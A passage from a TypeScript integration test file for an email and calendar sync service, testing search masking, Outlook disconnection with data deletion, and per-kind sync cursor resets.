			bodyText: 'body everything',
			bodyHtml: '<p>html everything</p>',
		});
		// Words of masked text are not searchable.
		const search = async (level: string) =>
			json(await api('emails.list', { token: tokens[level], query: { q: 'secret' } })).items.length;
		expect(await search('metadata')).toBe(0);
		expect(await search('subject')).toBe(1);
		expect(await search('everything')).toBe(1);
	});
});

describe('disconnect', () => {
	it('disconnects Outlook and deletes its data when asked; a sync is then refused', async () => {
		expect((await allEmails('microsoft')).length).toBeGreaterThan(0);
		const answer = await api('integration.disconnect', {
			token: ann,
			provider: 'microsoft',
			body: { deleteData: true },
		});
		expect(answer.status).toBe(200);
		expect(json(answer).integration).toMatchObject({
			id: integrations.microsoft,
			status: 'disconnected',
		});
		expect(json(answer).deleted.emails).toBeGreaterThan(0);
		expect(await allEmails('microsoft')).toEqual([]);
		expect(
			await knex('calendar_events')
				.where({ integration_id: integrations.microsoft })
				.count('* as n'),
		).toEqual([{ n: '0' }]);
		const row = await knex('integrations').where({ id: integrations.microsoft }).first();
		expect(row.access_token_encrypted).toBeNull();
		expect((await api('mail.sync', { token: ann, provider: 'microsoft', body: {} })).status).toBe(
			409,
		);
		// Google is untouched.
		expect((await allEmails('google')).length).toBeGreaterThan(0);
		expect(json(await api('integration.status', { token: ann })).integration.status).toBe(
			'connected',
		);
	});
});

describe('a full sync now', () => {
	it('forgets only the cursors of the kind asked for: mail for mail.sync, calendars for calendar.sync', async () => {
		const kinds = async () =>
			(
				await knex('sync_cursors')
					.where({ integration_id: integrations.google })
					.distinct('source_type')
			)
				.map((row: { source_type: string }) => row.source_type)
				.sort();
		expect(await kinds()).toEqual(['gmail_label', 'google_calendar']);
		expect((await api('calendar.sync', { token: ann, body: { full: true } })).status).toBe(202);
		expect(await kinds()).toEqual(['gmail_label']);
		expect((await api('mail.sync', { token: ann, body: { full: true } })).status).toBe(202);
		expect(await kinds()).toEqual([]);
	});
});
